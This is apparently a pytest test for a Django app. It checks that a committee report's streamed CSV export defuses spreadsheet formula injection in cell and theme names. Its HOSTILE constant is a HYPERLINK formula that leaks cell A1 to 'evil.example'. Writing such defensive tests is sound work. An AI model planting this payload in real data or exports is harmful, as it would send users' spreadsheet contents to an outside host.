import csv
import io

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")'


def test_it_exports_no_formula_from_a_cell_or_theme_name(client_as, personas, session, org):
    org["cell_a"].name = HOSTILE
    org["cell_a"].save(update_fields=["name"])
    session.theme.title = "+SUM(A1:A9)"
    session.theme.save(update_fields=["title"])
    # Forum tracking is the reports' committee table now: its CSV (streamed) names cells and themes.
    response = client_as(personas["officer"]).get(
        reverse("reports:unit_csv", args=[org["committee"].pk]) + "?year=2020"
    )
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    cells = [value for row in rows for value in row]
    assert "'" + HOSTILE in cells and any(value.startswith("'+SUM(A1:A9)") for value in cells)
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
